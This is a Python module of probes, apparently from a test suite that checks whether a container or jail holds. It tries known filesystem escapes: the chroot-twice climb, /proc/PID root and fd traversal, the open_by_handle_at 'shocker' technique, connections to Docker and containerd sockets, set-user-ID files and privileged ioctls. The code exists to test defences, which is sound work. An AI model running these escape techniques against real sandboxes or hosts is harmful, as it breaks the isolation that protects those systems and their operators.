"""Getting out of the file tree."""

from __future__ import annotations

import ctypes
import errno
import fcntl
import os
import socket
import struct
from functools import partial

from .probe import ABSENT, ESCAPED, EXPOSED, HELD, SEEN, Facts, Verdict, call, probe, sees_secret, tried, why

_AT_FDCWD = -100


def climb(facts: Facts) -> Verdict:
    """From the current directory up, as far as it goes, and make that the root."""
    for _ in range(64):
        os.chdir("..")
    if sees_secret(facts, os.open(".", os.O_RDONLY)):
        return ESCAPED, "the host's tree is above"
    os.chroot(".")
    return (ESCAPED, "the host's tree is the root") if sees_secret(facts) else (HELD, "the climb ends in the jail")


@probe("files: the host's path as it is")
def _as_it_is(facts: Facts) -> Verdict:
    return (ESCAPED, facts["secret"]) if sees_secret(facts) else (HELD, "no such file")


@probe("files: chroot twice")
def _chroot_twice(facts: Facts) -> Verdict:
    os.mkdir("inner")
    try:
        os.chroot("inner")
    except OSError as error:
        return HELD, why(error)
    return climb(facts)


@probe("files: chroot with a directory left open")
def _chroot_with_directory(facts: Facts) -> Verdict:
    root = os.open("/", os.O_RDONLY)
    os.mkdir("inner")
    try:
        os.chroot("inner")
    except OSError as error:
        return HELD, why(error)
    os.fchdir(root)
    return climb(facts)


@probe("files: a directory moved out while one is in it")
def _moved_out(facts: Facts) -> Verdict:
    os.makedirs("cage/inner")
    outside = os.open(".", os.O_RDONLY)
    os.chdir("cage/inner")
    try:
        os.chroot("..")
    except OSError as error:
        return HELD, why(error)
    os.rename("cage/inner", "inner", src_dir_fd=outside, dst_dir_fd=outside)
    return climb(facts)


@probe("files: .. with openat")
def _dots(facts: Facts) -> Verdict:
    here = os.open("/", os.O_PATH)
    for _ in range(64):
        here = _above(here)
    return (ESCAPED, "the host's tree is above") if sees_secret(facts, here) else (HELD, "the root is its own parent")


def _above(directory: int) -> int:
    """What is above a directory, instead of it. Raises OSError."""
    try:
        return os.open("..", os.O_PATH, dir_fd=directory)
    finally:
        os.close(directory)


def _through_proc(name: str, facts: Facts) -> Verdict:
    refused = "nothing"
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        try:
            there = os.open(f"/proc/{pid}/{name}", os.O_PATH)
        except OSError as error:
            refused = why(error)
            continue
        for _ in range(32):
            if sees_secret(facts, there):
                return ESCAPED, f"/proc/{pid}/{name}"
            try:
                there = _above(there)
            except OSError:
                break
        else:
            os.close(there)
    return HELD, refused


for _name in ("root", "cwd"):
    probe(f"files: /proc/PID/{_name} of every process")(partial(_through_proc, _name))


@probe("files: /proc/PID/fd of every process")
def _descriptors(facts: Facts) -> Verdict:
    """The host has a process that holds its secret file open."""
    for pid in [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
        try:
            names = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for name in names:
            try:
                there = os.stat(f"/proc/{pid}/fd/{name}")
            except OSError:
                continue
            if f"{there.st_dev}:{there.st_ino}" == f"{facts['secret device']}:{facts['secret inode']}":
                return ESCAPED, f"/proc/{pid}/fd/{name}"
    return HELD, "none of the host's"


@probe("files: /proc/PID/map_files of every process")
def _map_files(facts: Facts) -> Verdict:
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        try:
            maps = os.listdir(f"/proc/{pid}/map_files")
            for name in maps:
                os.close(os.open(f"/proc/{pid}/map_files/{name}", os.O_RDONLY))
                return EXPOSED, f"/proc/{pid}/map_files/{name} opens"
        except OSError as error:
            if error.errno not in (errno.EPERM, errno.EACCES, errno.ENOENT):
                raise
    return HELD, "none opens"


def _handle(kind: int, content: bytes) -> ctypes.Array[ctypes.c_char]:
    return ctypes.create_string_buffer(struct.pack("=Ii", len(content), kind) + content, 8 + len(content))


def _open_handle(kind: int, content: bytes, directory: int) -> int:
    return call("open_by_handle_at", directory, _handle(kind, content), os.O_RDONLY)


@probe("files: handle of the host's file (shocker)")
def _shocker(facts: Facts) -> Verdict:
    root = os.open("/", os.O_RDONLY)

    def read() -> None:
        os.close(_open_handle(1, struct.pack("=II", int(facts["secret inode"]), 0), root))

    return tried(read)


@probe("files: handle of the file system's root")
def _handle_of_root(facts: Facts) -> Verdict:
    root = os.open("/", os.O_RDONLY)
    return tried(lambda: _open_handle(1, struct.pack("=II", 2, 0), root))


def _told(fact: str, root: int, facts: Facts) -> Verdict:
    """By the handle that the host has of it, below the root of all such (FD_PIDFS_ROOT, FD_NSFS_ROOT)."""
    if not facts[fact]:
        return ABSENT, "this kernel has no handles of these"
    kind, _, content = facts[fact].partition(" ")
    return tried(lambda: os.close(_open_handle(int(kind), bytes.fromhex(content), root)))


probe("files: handle of a process (pidfs)")(partial(_told, "victim handle", -10002))
probe("files: handle of a namespace (nsfs)")(partial(_told, "namespace handle", -10003))


@probe("files: name_to_handle_at")
def _name_to_handle(facts: Facts) -> Verdict:
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 8 + 128)
    number = ctypes.create_string_buffer(8)
    return tried(lambda: call("name_to_handle_at", _AT_FDCWD, b"/", handle, number, 0), EXPOSED)


# _IOC numbers of linux/fs.h and fs/ext4; what each is given makes it fail where it is allowed.
_IOCTLS = {
    "FITRIM": (0xC0185879, None, ESCAPED),
    "EXT4_IOC_SHUTDOWN": (0x8004587D, struct.pack("=I", 255), ESCAPED),
    "FIBMAP": (1, struct.pack("=i", 0), EXPOSED),
    "FS_IOC_GETFSUUID": (0x80111500, bytes(64), EXPOSED),
    "FS_IOC_GETFSLABEL": (0x81009431, bytes(256), EXPOSED),
    "FS_IOC_GETFSSYSFSPATH": (0x80811501, bytes(256), EXPOSED),
    "EXT4_IOC_GETFSUUID": (0x8008662C, struct.pack("=II", 16, 0) + bytes(16), EXPOSED),
}


def _ioctl(name: str, facts: Facts) -> Verdict:
    request, argument, verdict = _IOCTLS[name]
    with open("file", "wb") as file:
        file.write(bytes(4096))
    fd = os.open("file", os.O_RDWR)
    memory = None if argument is None else ctypes.create_string_buffer(argument, max(len(argument), 1))
    try:
        call("ioctl", fd, request, memory)
    except OSError as error:
        if error.errno in (errno.EINVAL, errno.EFAULT) and verdict == ESCAPED:
            return ESCAPED, f"allowed, only the argument is wrong: {why(error)}"
        return HELD, why(error)
    return verdict, "the file system answers"


for _name in _IOCTLS:
    probe(f"files: {_name}")(partial(_ioctl, _name))


@probe("files: EXT4_IOC_GET_TUNE_SB_PARAM")
def _tune(facts: Facts) -> Verdict:
    fd = os.open(".", os.O_RDONLY)
    memory = ctypes.create_string_buffer(4096)
    for size in range(64, 1024, 4):  # its structure grows
        try:
            call("ioctl", fd, 0x80000000 | size << 16 | 0x662D, memory)
        except OSError as error:
            if error.errno not in (errno.ENOTTY, errno.EINVAL):
                return HELD, why(error)
        else:
            return EXPOSED, "the file system answers"
    return HELD, "no such request"


@probe("files: FS_IOC_GETFSMAP")
def _map(facts: Facts) -> Verdict:
    """What of the whole file system is in use, and where: how many pieces it is in."""
    first, last = bytes(64), struct.pack("=IIQQQQ", 0xFFFFFFFF, 0xFFFFFFFF, *[0xFFFFFFFFFFFFFFFF] * 3, 0) + bytes(24)
    asked = ctypes.create_string_buffer(bytes(64) + first + last)
    fd = os.open(".", os.O_RDONLY)
    try:
        call("ioctl", fd, 0xC0C0583B, asked)
    except OSError as error:
        return HELD, why(error)
    return EXPOSED, f"in {int.from_bytes(asked.raw[12:16], 'little')} pieces"


@probe("files: FS_IOC_FIEMAP")
def _extents(facts: Facts) -> Verdict:
    """Where on the host's disk something lies: the first piece of the root directory."""
    asked = ctypes.create_string_buffer(struct.pack("=QQIIII", 0, 1 << 62, 0, 0, 1, 0) + bytes(56))
    fd = os.open("/", os.O_RDONLY)
    try:
        call("ioctl", fd, 0xC020660B, asked)
    except OSError as error:
        return HELD, why(error)
    return EXPOSED, f"at {int.from_bytes(asked.raw[40:48], 'little')}"


@probe("files: FS_IOC_ADD_ENCRYPTION_KEY")
def _encryption_key(facts: Facts) -> Verdict:
    """One of no kind: EINVAL, or EOPNOTSUPP where the file system was made without. It would stay in it."""
    fd = os.open(".", os.O_RDONLY)
    try:
        call("ioctl", fd, 0xC0506617, ctypes.create_string_buffer(256))
    except OSError as error:
        return (EXPOSED if error.errno in (errno.EINVAL, errno.EOPNOTSUPP) else HELD), why(error)
    return ESCAPED, "it works"


@probe("files: keep waiting who opens a file, by a lease")
def _lease(facts: Facts) -> Verdict:
    """On one of its own: fcntl(2), F_SETLEASE, asks whose it is and not who else can reach it."""
    with open("file", "wb"):
        pass
    fd = os.open("file", os.O_RDONLY)

    def take() -> None:
        fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_WRLCK)
        fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_UNLCK)

    return tried(take, EXPOSED)


def _set_flag(flag: int, facts: Facts) -> Verdict:
    """On a file that has no name any more, so that nothing can stay."""
    fd = os.open("file", os.O_RDWR | os.O_CREAT)
    os.unlink("file")
    try:
        before = int.from_bytes(fcntl.ioctl(fd, 0x80086601, bytes(8))[:4], "little")
    except OSError as error:
        return ABSENT, f"this file system has no flags: {why(error)}"
    return tried(lambda: fcntl.ioctl(fd, 0x40086602, struct.pack("=q", before | flag)) and None)


for _name, _flag in (("immutable", 0x10), ("append-only", 0x20)):
    probe(f"files: chattr, {_name}")(partial(_set_flag, _flag))


@probe("files: project id of a file")
def _project(facts: Facts) -> Verdict:
    fd = os.open("file", os.O_RDWR | os.O_CREAT)
    os.unlink("file")
    attributes = bytearray(28)
    try:
        fcntl.ioctl(fd, 0x801C581F, attributes)
    except OSError as error:
        return HELD, why(error)
    struct.pack_into("=I", attributes, 12, 4711)
    try:
        fcntl.ioctl(fd, 0x401C5820, bytes(attributes))
    except OSError as error:
        # Allowed, but this file system was made without projects.
        return (EXPOSED if error.errno == errno.EOPNOTSUPP else HELD), why(error)
    return ESCAPED, "it works"


for _name in ("trusted.attempt", "security.attempt", "security.ima"):

    def _attribute(name: str, facts: Facts) -> Verdict:
        with open("file", "w"):
            pass
        return tried(lambda: os.setxattr("file", name, b"\x01value"))

    probe(f"files: extended attribute {_name}")(partial(_attribute, _name))


def _reached(seen: str, facts: Facts) -> Verdict:
    """By the host, which knows whether others come to where that file is."""
    where = facts.get("reach", "")
    if not where:
        return ABSENT, "how the host's users reach the root is not known"
    return (ESCAPED, "other users of the host can run it") if where == "open" else (HELD, "no other user gets there")


@probe("files: a set-user-ID file", _reached)
def _set_user_id(facts: Facts) -> Verdict:
    """Which is the host's root's on the disk, where uid 0 inside is."""
    try:
        os.close(os.open("file", os.O_RDWR | os.O_CREAT, 0o700))
        os.chmod("file", 0o4755)
    except OSError as error:
        return HELD, why(error)
    kept = os.stat("file").st_mode & 0o4000
    return (SEEN, "made") if kept else (HELD, "the bit is not kept")


# Where runtimes listen for whoever may use them.
_RUNTIMES = """/run/docker.sock /var/run/docker.sock /run/containerd/containerd.sock /run/podman/podman.sock
    /run/crio/crio.sock
    /run/systemd/private /run/systemd/notify /run/dbus/system_bus_socket /run/jailng/socket""".split()


@probe("files: sockets of the host's")
def _sockets(facts: Facts) -> Verdict:
    """One that the host put up, and those of runtimes: at the other end is a process without a number here."""
    for path in (facts["socket"], *_RUNTIMES):
        try:
            made = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        except OSError as error:
            return HELD, why(error)
        with made:
            made.settimeout(1)
            try:
                made.connect(path)
                pid = struct.unpack("=iII", made.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
            except OSError:
                continue
            if pid == 0 or path == facts["socket"]:
                return ESCAPED, "one answers"
    return HELD, "none"


@probe("files: quotactl")
def _quota(facts: Facts) -> Verdict:
    try:
        call("quotactl_fd", os.open("/", os.O_RDONLY), 0x800007 << 8, 0, ctypes.create_string_buffer(256))
    except OSError as error:
        return (HELD if error.errno in (errno.EPERM, errno.EACCES) else EXPOSED), why(error)
    return ESCAPED, "it works"


@probe("files: watch the whole file system (fanotify)")
def _fanotify(facts: Facts) -> Verdict:
    def watch() -> int:
        group = call("fanotify_init", 0x200, os.O_RDONLY)
        return call("fanotify_mark", group, 0x101, 0x20, _AT_FDCWD, b"/")

    return tried(watch)
